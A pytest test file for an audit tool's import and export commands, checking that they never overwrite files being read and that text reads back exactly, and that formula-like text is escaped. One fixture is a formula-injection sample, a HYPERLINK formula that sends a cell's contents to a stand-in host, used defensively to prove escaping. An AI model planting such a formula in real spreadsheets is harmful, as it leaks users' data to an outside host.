"""``import`` and ``export`` never write over a file they read, never write text as a formula, and
read back exactly what they wrote; ``new``, ``sample`` never write over a file being read either."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from conftest import DATA, EXAMPLES, TODAY, Run
from qaimpact.audits.checker import CheckOptions, check_audit
from qaimpact.authoring.importing.convert import cell_text, ungarbled
from qaimpact.authoring.importing.export import excel_length
from qaimpact.base import escaping
from qaimpact.frameworks.registry import Registry

TRACKER = EXAMPLES / "import" / "tracker.xlsx"
CCC = EXAMPLES / "service" / "ccc"
FORMULA = DATA / "import" / "formula" / "CFA-2025-0275.yaml"
SAMPLING = DATA / "cycle" / "sampling"
DAY = TODAY.isoformat()


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# -- Never over a file being read ----------------------------------------------------------------


@pytest.mark.parametrize("force", [[], ["--force"]], ids=["plain", "force"])
@pytest.mark.parametrize("name", ["tracker.xlsx", "./tracker.xlsx"])
def test_scaffold_mapping_never_replaces_the_sheet_it_reads(
    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, force: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copy(TRACKER, "tracker.xlsx")
    before = _files(tmp_path)
    run = cli(
        "import", "tracker.xlsx", "--scaffold-mapping", "--standards", "cafcass-qiam-2017",
        "--mapping", name, *force, expect=2,
    )  # fmt: skip
    # Refused first as a workbook named as a mapping: no mapping is ever written as .xlsx.
    assert run.stderr == (
        f"error: --mapping '{Path(name)}' names an Excel workbook, not a mapping: with --scaffold-mapping, "
        "name the YAML file to write, such as tracker.mapping.yaml.\n"
    )
    assert _files(tmp_path) == before


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["tracker.xlsx", "--mapping", "tracker.xlsx", "--dry-run"],
            "--mapping 'tracker.xlsx' names an Excel workbook, not a mapping: give --mapping the YAML file "
            "that says which column holds what, such as tracker.mapping.yaml. To write a first one: qaimpact "
            "import tracker.xlsx --scaffold-mapping --standards ID --mapping tracker.mapping.yaml",
        ),
        (
            ["tracker.xlsx", "--mapping", "old.CSV"],
            "--mapping 'old.CSV' names a CSV file, not a mapping: give --mapping the YAML file that says "
            "which column holds what, such as tracker.mapping.yaml. To write a first one: qaimpact import "
            "tracker.xlsx --scaffold-mapping --standards ID --mapping tracker.mapping.yaml",
        ),
        (
            ["tracker.xlsx", "--scaffold-mapping", "--standards", "cafcass-qiam-2017", "--mapping",
             "other.xlsx", "--force"],
            "--mapping 'other.xlsx' names an Excel workbook, not a mapping: with --scaffold-mapping, name "
            "the YAML file to write, such as tracker.mapping.yaml.",
        ),
        (
            ["tracker.xlsx", "--mapping", "old.xls", "--dry-run"],
            "--mapping 'old.xls' names an Excel 97-2003 workbook, not a mapping: give --mapping the YAML "
            "file that says which column holds what, such as tracker.mapping.yaml. To write a first one: "
            "qaimpact import tracker.xlsx --scaffold-mapping --standards ID --mapping tracker.mapping.yaml",
        ),
        (
            ["tracker.xlsx", "--mapping", "notes.rtf", "--dry-run"],
            "--mapping 'notes.rtf' names a Word document, not a mapping: give --mapping the YAML file that "
            "says which column holds what, such as tracker.mapping.yaml. To write a first one: qaimpact "
            "import tracker.xlsx --scaffold-mapping --standards ID --mapping tracker.mapping.yaml",
        ),
        (
            ["tracker.mapping.yaml", "--mapping", "tracker.mapping.yaml", "--dry-run"],
            "'tracker.mapping.yaml' is a YAML file, not a spreadsheet: give the workbook (.xlsx) or CSV "
            "file to import first, then the mapping: qaimpact import SHEET --mapping tracker.mapping.yaml",
        ),
    ],
    ids=[
        "workbook-as-mapping", "csv-as-mapping", "old-workbook-as-mapping", "rtf-as-mapping",
        "scaffold-over-a-workbook", "mapping-as-sheet",
    ],
)  # fmt: skip
def test_a_sheet_and_a_mapping_given_the_wrong_way_round_are_refused(
    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str], message: str
) -> None:
    """A regression: a workbook given as the mapping was read as YAML ("not UTF-8 text: byte 0x81"),
    and with --scaffold-mapping --force written over with YAML; a mapping given as the sheet was
    read as rows ("has no column headed 'Status'")."""
    monkeypatch.chdir(tmp_path)
    shutil.copy(TRACKER, "tracker.xlsx")
    shutil.copy(TRACKER, "other.xlsx")
    shutil.copy(TRACKER.with_name("tracker.mapping.yaml"), "tracker.mapping.yaml")
    Path("old.CSV").write_text("a,b\n", encoding="utf-8")
    Path("old.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    Path("notes.rtf").write_text("{\\rtf1}", encoding="utf-8")
    before = _files(tmp_path)
    run = cli("import", *args, expect=2)
    assert run.stderr == f"error: {message}\n"
    assert _files(tmp_path) == before


def _two_audits(folder: Path) -> list[Path]:
    folder.mkdir()
    audits = sorted(CCC.glob("*.yaml"))[:2]
    for audit in audits:
        shutil.copy(audit, folder / audit.name)
    return [folder / a.name for a in audits]


@pytest.mark.parametrize(
    ("output", "mapping", "message"),
    [
        (
            "out.xlsx",
            "audits/CFA-2025-0275.yaml",
            "--mapping 'audits/CFA-2025-0275.yaml' is one of the files being read; choose another file "
            "for the mapping, such as out.mapping.yaml.",
        ),
        (
            "v.xlsx",
            "./v.xlsx",
            "--mapping 'v.xlsx' is the same file as --output 'v.xlsx', and one would be written over the "
            "other; choose another file for the mapping, such as v.mapping.yaml.",
        ),
        (
            "v.csv",
            "link.yaml",
            "--mapping 'link.yaml' is the same file as --output 'v.csv', and one would be written over the "
            "other; choose another file for the mapping, such as v.mapping.yaml.",
        ),
        (
            "link.csv",
            None,
            "--output 'link.csv' is one of the files being read; choose another file.",
        ),
        (
            "out.csv",
            "stds/ccc-practice-standards.yaml",
            "--mapping 'stds/ccc-practice-standards.yaml' is one of the files being read; choose another "
            "file for the mapping, such as out.mapping.yaml.",
        ),
    ],
    ids=[
        "mapping-is-an-audit",
        "both-one-file",
        "mapping-links-to-output",
        "output-links-to-audit",
        "standards",
    ],
)
def test_export_never_writes_over_a_file_it_reads_nor_one_output_over_the_other(
    cli: Callable[..., Run],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    output: str,
    mapping: str | None,
    message: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    _two_audits(tmp_path / "audits")
    shutil.copytree(EXAMPLES.parent / "standards", "stds", ignore=shutil.ignore_patterns("*.md"))
    Path("v.csv").write_text("")
    Path("link.yaml").symlink_to("v.csv")
    Path("link.csv").symlink_to("audits/CFA-2025-0275.yaml")
    before = {folder: _files(tmp_path / folder) for folder in (".", "audits", "stds")}
    run = cli(
        "export", "audits", "-o", output, *(["--mapping", mapping] if mapping else []), "--force",
        "--standards-dir", "stds", "--today", DAY, expect=2,
    )  # fmt: skip
    assert run.stderr == f"error: {message}\n"
    assert {folder: _files(tmp_path / folder) for folder in (".", "audits", "stds")} == before


def test_new_never_replaces_a_standards_file_it_reads(
    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(EXAMPLES.parent / "standards", "stds", ignore=shutil.ignore_patterns("*.md"))
    before = _files(tmp_path / "stds")
    target = "stds/ccc-practice-standards.yaml"
    run = cli(
        "new", "--standards", "ccc-practice-standards", "-o", target, "--force", "--standards-dir", "stds",
        expect=2,
    )  # fmt: skip
    assert run.stderr == f"error: --output '{target}' is one of the files being read; choose another file.\n"
    assert _files(tmp_path / "stds") == before


NEVER_REPLACED = (
    "already exists and holds an audit or a record (or YAML that cannot be read as anything else): new "
    "never replaces one, even with --force. Choose another name, or delete the file first if you mean "
    "to start it again."
)


@pytest.mark.parametrize("force", [[], ["--force"]], ids=["plain", "force"])
@pytest.mark.parametrize(
    "source",
    [
        pytest.param(CCC / "CFA-2026-0222.yaml", id="completed-audit"),
        pytest.param(EXAMPLES / "service" / "records" / "cafcass" / "FB-C-2025-001.yaml", id="record"),
        pytest.param(DATA / "invalid" / "QA101-unclosed-quote.yaml", id="audit-with-a-yaml-error"),
    ],
)
def test_new_never_replaces_an_audit_or_record(
    source: Path, force: list[str], cli: Callable[..., Run], tmp_path: Path
) -> None:
    target = tmp_path / "mine.yaml"
    shutil.copy(source, target)
    run = cli("new", "--standards", "ccc-practice-standards", "-o", target, *force, expect=2)
    assert run.stderr == f"error: '{target}' {NEVER_REPLACED}\n"
    assert target.read_bytes() == source.read_bytes()


@pytest.mark.parametrize(
    "text", [pytest.param("", id="empty"), pytest.param("my notes\n", id="not-an-audit")]
)
def test_new_force_replaces_a_file_that_is_no_audit(
    text: str, cli: Callable[..., Run], tmp_path: Path
) -> None:
    target = tmp_path / "mine.yaml"
    target.write_text(text, encoding="utf-8")
    run = cli("new", "--standards", "ccc-practice-standards", "-o", target, expect=2)
    assert run.stderr == (
        f"error: '{target}' already exists; choose another name, or add --force to overwrite it.\n"
    )
    cli("new", "--standards", "ccc-practice-standards", "-o", target, "--force")
    assert "\nstandards: ccc-practice-standards\n" in target.read_text(encoding="utf-8")


def test_sample_force_never_replaces_an_audit_it_reads(cli: Callable[..., Run], tmp_path: Path) -> None:
    audits = tmp_path / "audits"
    shutil.copytree(SAMPLING / "audits", audits)
    # An auditor's finished audit, in a file named as the sample names its blank audits.
    done = audits / "SAMPLE-2026-12-001.yaml"
    done.write_text((SAMPLING / "audits" / "CFA-2026-0310.yaml").read_text().replace("0310", "0999"))
    before = _files(audits)
    run = cli(
        "sample", "--cases", SAMPLING / "cases.csv", "--audits", audits, "--today", DAY, "--seed", "4",
        "--scaffold", audits, "--force", expect=2,
    )  # fmt: skip
    assert run.stderr.endswith(
        f"error: --scaffold file '{done}' is one of the files being read; --force never replaces an audit "
        "being read, so nothing was written: choose another --scaffold folder, such as a new one for this "
        "round.\n"
    )
    assert _files(audits) == before


def test_sample_says_first_that_the_cases_list_is_being_read(cli: Callable[..., Run], tmp_path: Path) -> None:
    cases = tmp_path / "cases.csv"
    shutil.copy(SAMPLING / "cases.csv", cases)
    run = cli("sample", "--cases", cases, "--audits", SAMPLING / "audits", "-o", cases, expect=2)
    assert run.stderr == f"error: --output '{cases}' is one of the files being read; choose another file.\n"
    assert cases.read_bytes() == (SAMPLING / "cases.csv").read_bytes()


# -- Text is never a formula, and reads back exactly ------------------------------------------------------


def _export(cli: Callable[..., Run], audits: Path, sheet: Path) -> Path:
    mapping = sheet.with_name(sheet.stem + ".mapping.yaml")
    cli("export", audits, "-o", sheet, "--mapping", mapping, "--today", DAY)
    return mapping


def _round_trip(cli: Callable[..., Run], registry: Registry, audits: Path, sheet: Path) -> dict[str, Any]:
    mapping = _export(cli, audits, sheet)
    back = sheet.with_name(sheet.stem + "-imported")
    cli("import", sheet, "--mapping", mapping, "--audits", back, "--today", DAY)
    [audit] = back.glob("*.yaml")
    data = check_audit(audit, registry, CheckOptions(today=TODAY, keep_data=True)).data
    assert data is not None
    return data


def _original(registry: Registry, path: Path) -> dict[str, Any]:
    data = check_audit(path, registry, CheckOptions(today=TODAY, keep_data=True)).data
    assert data is not None
    return data


def test_export_writes_text_that_starts_like_a_formula_as_text_in_a_workbook(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    import openpyxl

    sheet = tmp_path / "out.xlsx"
    _export(cli, FORMULA.parent, sheet)
    ws = openpyxl.load_workbook(sheet).active
    header = [c.value for c in ws[1]]
    cells = {name: ws.cell(row=2, column=header.index(name) + 1) for name in header}
    practitioner = cells["practitioner"]
    assert (practitioner.value, practitioner.data_type) == ('=HYPERLINK("http://x.example/?"&B2,"Ben")', "s")
    assert all(c.data_type != "f" for c in cells.values())


def test_export_escapes_text_that_starts_like_a_formula_in_csv_as_the_reports_do(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    sheet = tmp_path / "out.csv"
    _export(cli, FORMULA.parent, sheet)
    [row] = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8"))))
    assert row["practitioner"] == '\'=HYPERLINK("http://x.example/?"&B2,"Ben")'
    assert row["feedback.child"] == "''=Likes the placement."
    assert (
        row["feedback.practitioner_reflection"]
        == "'@Ben: +1 for the plan.\n'-- and '=the review.\n'\t=SUM(A1)"
    )


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_text_that_starts_like_a_formula_reads_back_exactly(
    cli: Callable[..., Run], tmp_path: Path, registry: Registry, suffix: str
) -> None:
    assert _round_trip(cli, registry, FORMULA.parent, tmp_path / f"out{suffix}") == _original(
        registry, FORMULA
    )


_STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'=", "'-", "''+"])
#: Text an audit can hold: no control characters but line breaks and tabs.
_REST = st.text(
    alphabet=st.characters(
        whitelist_categories=("L", "N", "P", "S", "Zs"),
        whitelist_characters="\n\t\r=+-@'\"",
        blacklist_characters="\x85\u2028\u2029\ufeff",
    ),
    max_size=40,
)
# Values import reads as no value are ruled out with assume() in the test, not .filter(): the
# lowest Hypothesis allowed fails on .map().filter() beside NumPy 2 (np.asfarray is gone).
_VALUES = st.lists(st.tuples(_STARTS, _REST), min_size=1, max_size=3).map(
    lambda parts: "\n".join(start + rest for start, rest in parts)
)


@settings(max_examples=20, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=_VALUES, suffix=st.sampled_from([".xlsx", ".csv"]))
def test_export_then_import_gives_back_any_text_exactly_as_import_reads_a_cell(
    cli: Callable[..., Run],
    tmp_path_factory: pytest.TempPathFactory,
    registry: Registry,
    value: str,
    suffix: str,
) -> None:
    assume(cell_text(value) is not None)
    # Text that reads as garbled by a character-set mix-up ('Â\xa0' for a no-break space) is
    # refused with QA614, never imported changed: tests/test_import_garbled.py.
    assume(ungarbled(value) is None)
    folder = tmp_path_factory.mktemp("trip")
    audits = folder / "audits"
    audits.mkdir()
    audit = audits / FORMULA.name
    text = FORMULA.read_text(encoding="utf-8")
    audit.write_text(
        re.sub(
            r"^  practitioner_reflection: .*$",
            lambda _: "  practitioner_reflection: " + json.dumps(value, ensure_ascii=False),
            text,
            flags=re.M,
        ),
        encoding="utf-8",
    )
    original = _original(registry, audit)
    assert original["feedback"]["practitioner_reflection"] == value
    data = _round_trip(cli, registry, audits, folder / f"out{suffix}")
    # What import reads from any cell holding this text: without spaces around it, CR as a line break.
    original["feedback"]["practitioner_reflection"] = cell_text(value)
    # Exactly the text, whenever it is text import can give (no spaces around it, no CR).
    assert data == original


# -- --max-file-size ----------------------------------------------------------------------------------


def test_import_takes_the_max_file_size_its_hint_names(
    cli: Callable[..., Run], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # the audit's comments name the sheet: its size depends on the name
    sheet = Path("audits.xlsx")
    mapping = _export(cli, FORMULA.parent, sheet)
    args = ("import", sheet, "--mapping", mapping, "--audits", "a", "--dry-run", "--today", DAY)
    run = cli(*args, "--max-file-size", "1000", expect=1)
    assert run.stderr == (
        f"{sheet}!ccc-practice-standards!A2: error QA108 The file is 2,905 bytes, over the limit of 1,000 "
        "bytes. (in the audit from row 2)\n"
        "    hint: Audit files are a few kilobytes: check this is the right file, or raise the limit with "
        "--max-file-size.\n"
    )
    # A valid audit is as large as an invalid one: refused too, as validate would refuse its file.
    assert cli(*args, "--max-file-size", "2905").stderr == ""


def test_export_takes_the_max_file_size_its_hint_names(cli: Callable[..., Run], tmp_path: Path) -> None:
    big = CCC / "CFA-2025-0316.yaml"  # 4,398 bytes; FORMULA's audit has 2,570
    args = ("export", FORMULA, big, "-o", tmp_path / "out.csv", "--today", DAY, "--force")
    run = cli(*args, "--max-file-size", "4000", expect=1)
    assert (
        run.stdout
        == f"Exported 1 audit of ccc-practice-standards to {tmp_path / 'out.csv'}. 1 with errors left out.\n"
    )
    assert (
        f"{big}:1:1: error QA108 The file is 4,398 bytes, over the limit of 4,000 bytes.\n"
        "    hint: Audit files are a few kilobytes: check this is the right file, or raise the limit with "
        "--max-file-size.\n"
    ) in run.stderr
    assert cli(*args, "--max-file-size", "4398").stdout.startswith("Exported 2 audits")


# -- Text longer than an Excel cell holds --------------------------------------------------------------


def _long_evidence(folder: Path, length: int, text: str | None = None) -> tuple[Path, str]:
    """FORMULA's audit with its first standard's evidence ``length`` characters long (or ``text``)."""
    if text is None:
        text = ("The child was seen alone and said so. " * (length // 38 + 1))[: length - 1] + "."
    lines = FORMULA.read_text(encoding="utf-8").splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if line.lstrip().startswith("evidence:"))
    indent = lines[at][: len(lines[at]) - len(lines[at].lstrip())]
    end = next(i for i in range(at + 1, len(lines)) if not lines[i].startswith(indent + " "))
    lines[at:end] = [f"{indent}evidence: {json.dumps(text, ensure_ascii=False)}\n"]  # for the folded block
    audit = folder / FORMULA.name
    folder.mkdir(exist_ok=True)
    audit.write_text("".join(lines), encoding="utf-8")
    return audit, text


@pytest.mark.parametrize(
    ("text", "shown", "options"),
    [
        (None, "32,768", ()),
        # Excel holds text as UTF-16: an emoji is two of its characters (16,384 of them are 32,768).
        ("\U0001f642" * 16_384, "32,768", ()),
        # Read again, only to say where, with the limit it was read with.
        ("x" * 1_200_000, "1,200,000", ("--max-file-size", "2000000")),
    ],
    ids=["letters", "emoji", "large-file"],
)
def test_export_writes_no_workbook_that_would_cut_text_short(
    cli: Callable[..., Run], tmp_path: Path, text: str | None, shown: str, options: tuple[str, ...]
) -> None:
    # Regression: openpyxl cut text over 32,767 characters short without a word, so importing the
    # export again gave another audit.
    audit, _ = _long_evidence(tmp_path / "audits", 32_768, text)
    line = next(
        i for i, t in enumerate(audit.read_text(encoding="utf-8").splitlines(), 1) if "evidence:" in t
    )
    sheet, mapping = tmp_path / "out.xlsx", tmp_path / "out.mapping.yaml"
    run = cli("export", audit, "-o", sheet, "--mapping", mapping, "--today", DAY, *options, expect=1)
    column = audit.read_text(encoding="utf-8").splitlines()[line - 1].index("evidence:") + 11
    assert run.stdout == ""
    assert run.stderr == (
        f"error: {audit} holds text too long for a workbook, so nothing was exported:\n"
        f"{audit}:{line}:{column}: error QA611 'practice_standards.risk_management.evidence' holds "
        f"{shown} characters, and an Excel cell holds at most 32,767: a workbook would hold it cut short, "
        "so none was written.\n"
        "    hint: Export to a CSV file instead (-o FILE.csv), which holds the text whole, or shorten the "
        "text in the audit.\n"
    )
    assert not sheet.exists()
    assert not mapping.exists()


def test_export_refusing_a_workbook_still_names_the_audits_with_errors(
    cli: Callable[..., Run], tmp_path: Path
) -> None:
    # Every finding in one run: the audits an export would leave out are named beside the text
    # too long for a cell, not in a later run once that text is shortened.
    audit, _ = _long_evidence(tmp_path / "audits", 32_768)
    broken = shutil.copy(DATA / "invalid" / "QA317-blank-evidence.yaml", tmp_path / "audits" / "broken.yaml")
    run = cli("export", tmp_path / "audits", "-o", tmp_path / "out.xlsx", "--today", DAY, expect=1)
    assert run.stdout == ""
    headings = [line for line in run.stderr.splitlines() if line.startswith("error: ")]
    assert headings == [
        f"error: {broken} has errors, and would not be exported:",
        f"error: {audit} holds text too long for a workbook, so nothing was exported:",
    ]
    assert f"{broken}:42:13: error QA317 " in run.stderr
    assert not (tmp_path / "out.xlsx").exists()


@pytest.mark.parametrize(
    ("suffix", "length", "text"),
    [
        (".xlsx", 32_767, None),
        (".xlsx", 32_767, "\U0001f642" * 16_383 + "."),  # 32,767 as Excel counts
        (".csv", 32_768, None),
        (".csv", 100_000, None),
    ],
)
def test_text_an_output_holds_is_exported_whole_and_reads_back(
    cli: Callable[..., Run], tmp_path: Path, registry: Registry, suffix: str, length: int, text: str | None
) -> None:
    audit, text = _long_evidence(tmp_path / "audits", length, text)
    back = _round_trip(cli, registry, audit.parent, tmp_path / f"out{suffix}")
    assert back == _original(registry, audit)
    assert excel_length(text) == length


# -- The escaping itself ------------------------------------------------------------------------------


_LINE_STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "'", "'=", "''-", "'x", "\r", "\r\n"])


@given(st.lists(st.tuples(_LINE_STARTS, st.text(max_size=10)), max_size=4))
def test_csv_text_undoes_csv_cell_exactly_and_no_line_starts_a_formula(parts: list[tuple[str, str]]) -> None:
    value = "".join(start + rest for start, rest in parts)
    cell = escaping.csv_cell(value)
    assert not any(line.startswith(("=", "+", "-", "@", "\t", "\r")) for line in cell.split("\n"))
    assert escaping.csv_text(cell) == re.sub(r"\r\n|\r", "\n", value)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("'=1+1", "''=1+1"),
        ("'quoted'", "'quoted'"),
        ("a\n-b\n'@c", "a\n'-b\n''@c"),
        ("- item", "'- item"),
    ],
)
def test_csv_cell_and_csv_text(value: str, cell: str) -> None:
    assert escaping.csv_cell(value) == cell
    assert escaping.csv_text(cell) == value


# -- characters no workbook cell holds ------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_words_line_and_page_breaks_export_and_import_as_line_breaks(
    cli: Callable[..., Run], tmp_path: Path, registry: Registry, suffix: str
) -> None:
    # Regression: evidence pasted from Word with a line break typed as Shift+Enter (\v) stopped
    # `export -o X.xlsx` with an internal error (exit 4: openpyxl refuses the character), and the
    # CSV route imported the text with the break deleted ("reflective.Case summary").
    audits = tmp_path / "audits"
    audits.mkdir()
    audit = audits / FORMULA.name
    written = "Recording timely and reflective.\vCase summary updated.\fSee the chronology.\x01"
    audit.write_text(
        re.sub(
            r"^  practitioner_reflection: .*$",
            lambda _: "  practitioner_reflection: " + json.dumps(written),
            FORMULA.read_text(encoding="utf-8"),
            flags=re.M,
        ),
        encoding="utf-8",
    )
    original = _original(registry, audit)
    assert original["feedback"]["practitioner_reflection"] == written
    data = _round_trip(cli, registry, audits, tmp_path / f"out{suffix}")
    original["feedback"]["practitioner_reflection"] = (
        "Recording timely and reflective.\nCase summary updated.\nSee the chronology."
    )
    assert data == original


def test_a_workbook_cell_holds_line_breaks_for_the_characters_it_cannot_hold() -> None:
    from openpyxl import Workbook

    cell = Workbook().active.cell(row=1, column=1)
    escaping.workbook_text(cell, "a\vb\fc\x00d\te\nf")
    assert (cell.value, cell.data_type) == ("a\nb\ncd\te\nf", "s")


# -- an audit already there, with errors ----------------------------------------------------------


@pytest.mark.parametrize("update", [False, True], ids=["import", "update"])
def test_an_audit_already_there_with_errors_is_said_where_and_how_to_put_right(
    cli: Callable[..., Run], tmp_path: Path, update: bool
) -> None:
    # Regression: "exists but has errors, so --update left it as it is" said neither what nor
    # where, and its hint was to run the import again with --update, which changed nothing.
    sheet = tmp_path / "audits.csv"
    mapping = _export(cli, FORMULA.parent, sheet)
    audits = tmp_path / "audits"
    cli("import", sheet, "--mapping", mapping, "--audits", audits, "--today", DAY)
    [audit] = audits.glob("*.yaml")
    text = audit.read_text(encoding="utf-8")
    written = next(t for t in text.splitlines() if t.startswith("practitioner: "))
    line = text.splitlines().index(written)
    audit.write_text(text.replace("practitioner: ", "practitioner: [", 1), encoding="utf-8")
    more = ("--update",) if update else ()
    run = cli("import", sheet, "--mapping", mapping, "--audits", audits, "--today", DAY, *more)
    assert run.stderr == (
        f"{sheet}!A2: warning QA610 {audit} exists but has errors, so it was left as it is: "
        f"{audit}:{line + 1}:15: QA101 YAML syntax error: '[{written.removeprefix('practitioner: ')}' starts "
        "with '[', which YAML reads "
        "as the start of a list in brackets (such as [a, b]), and no ']' ends it.\n"
        f"    hint: Fix it (`qaimpact validate {audit}` shows every problem), then import again"
        + (" with --update" if update else "")
        + "; or move the file away, and importing again writes the row afresh.\n"
    )
    assert audit.read_text(encoding="utf-8") == text.replace("practitioner: ", "practitioner: [", 1)


# -- --bom ------------------------------------------------------------------------------------------


def test_export_bom_writes_a_csv_excel_reads_as_utf8_and_import_reads_back(
    cli: Callable[..., Run], tmp_path: Path, registry: Registry
) -> None:
    # Without it, Excel opened by a double click reads "Zoë" as "ZoÃ«", and saves it so.
    audits = tmp_path / "audits"
    audits.mkdir()
    audit = audits / FORMULA.name
    audit.write_text(
        re.sub(
            r"^practitioner: .*$", "practitioner: Zoë Brontë", FORMULA.read_text(encoding="utf-8"), flags=re.M
        ),
        encoding="utf-8",
    )
    sheet, mapping = tmp_path / "out.csv", tmp_path / "out.mapping.yaml"
    cli("export", audits, "-o", sheet, "--mapping", mapping, "--bom", "--today", DAY)
    assert sheet.read_bytes().startswith(b"\xef\xbb\xbfaudit_id,")
    back = tmp_path / "back"
    cli("import", sheet, "--mapping", mapping, "--audits", back, "--today", DAY)
    options = CheckOptions(today=TODAY, keep_data=True)
    after = check_audit(back / FORMULA.name, registry, options).data
    assert after == check_audit(audit, registry, options).data
    assert after is not None
    assert after["practitioner"] == "Zoë Brontë"


NO_BOM_NOTE = (
    "note: {sheet} holds accented letters or symbols ({accent}, for one). `qaimpact import` reads "
    "them right, but Excel, opening the file with a double click, shows them garbled ('Zoë' as "
    "'ZoÃ«') and saves them so: for Excel, export again with --bom --force, or open the file in "
    "Excel with Data > From Text/CSV.\n"
)


@pytest.mark.parametrize(
    ("practitioner", "suffix", "bom", "accent"),
    [
        ("Zoë Brontë", ".csv", False, "'ë'"),
        ("Zoë Brontë", ".csv", True, None),  # the mark is there: nothing to say
        ("Zoë Brontë", ".xlsx", False, None),  # a workbook holds its text as Unicode
        ("Zoe Bronte", ".csv", False, None),  # nothing Excel could garble
        ("Zoe\u00a0Bronte", ".csv", False, "a no-break space"),  # named, not shown as a space
    ],
)
def test_a_csv_export_without_bom_says_when_excel_would_garble_it(
    cli: Callable[..., Run], tmp_path: Path, practitioner: str, suffix: str, bom: bool, accent: str | None
) -> None:
    # Regression: a CSV of accented names, written without --bom, was exported without a word,
    # and Excel opened with a double click garbled every name.
    audits = tmp_path / "audits"
    audits.mkdir()
    (audits / FORMULA.name).write_text(
        re.sub(
            r"^practitioner: .*$",
            lambda _: "practitioner: " + json.dumps(practitioner, ensure_ascii=False),
            FORMULA.read_text(encoding="utf-8"),
            flags=re.M,
        ),
        encoding="utf-8",
    )
    sheet = tmp_path / f"out{suffix}"
    run = cli("export", audits, "-o", sheet, *(["--bom"] if bom else []), "--today", DAY)
    assert run.stderr == ("" if accent is None else NO_BOM_NOTE.format(sheet=sheet, accent=accent))
    assert run.stdout.startswith("Exported 1 audit of ")


def test_export_bom_is_refused_for_a_workbook(cli: Callable[..., Run], tmp_path: Path) -> None:
    run = cli("export", FORMULA, "-o", tmp_path / "out.xlsx", "--bom", expect=2)
    assert run.stderr == (
        "error: --bom adds the byte-order mark Excel needs to read a CSV file's accents and symbols; a "
        f"workbook ({tmp_path / 'out.xlsx'}) has no use for one: leave --bom out, or write a .csv file.\n"
    )
    assert not (tmp_path / "out.xlsx").exists()


# -- an audit filed by hand under another name --------------------------------------------------


@pytest.mark.parametrize(
    ("filed", "newline"),
    [("2025/{stem}.yaml", "\n"), ("{stem}.yml", "\n"), ("2025/{stem}.yaml", "\r\n")],
    ids=["subfolder", "yml", "windows-line-ends"],
)
def test_an_audit_filed_under_another_name_is_compared_not_imported_again(
    cli: Callable[..., Run], tmp_path: Path, filed: str, newline: str
) -> None:
    # Regression: an audit the QA team had filed in a year's folder, or saved as .yml, was written
    # again as audits/ID.yaml beside it (exit 0), and validate then refused both copies (QA704).
    sheet = tmp_path / "audits.csv"
    mapping = _export(cli, FORMULA.parent, sheet)
    audits = tmp_path / "audits"
    mine = audits / filed.format(stem=FORMULA.stem)
    mine.parent.mkdir(parents=True)
    text = FORMULA.read_text(encoding="utf-8")
    corrected = re.sub(r"^reviewer: .*$", "reviewer: Corrected By Hand", text, flags=re.M)
    mine.write_bytes(corrected.replace("\n", newline).encode("utf-8"))
    run = cli("import", sheet, "--mapping", mapping, "--audits", audits, "--today", DAY)
    assert (
        f"warning QA610 {mine} exists and differs from {sheet} row 2, so it was left as it is: 'reviewer'"
        in (run.stderr)
    )
    assert sorted(p.relative_to(audits) for p in audits.rglob("*.y*ml")) == [mine.relative_to(audits)]
    cli("import", sheet, "--mapping", mapping, "--audits", audits, "--today", DAY, "--update")
    assert sorted(p.relative_to(audits) for p in audits.rglob("*.y*ml")) == [mine.relative_to(audits)]
    assert cli("validate", audits, "--today", DAY).exit_code == 0
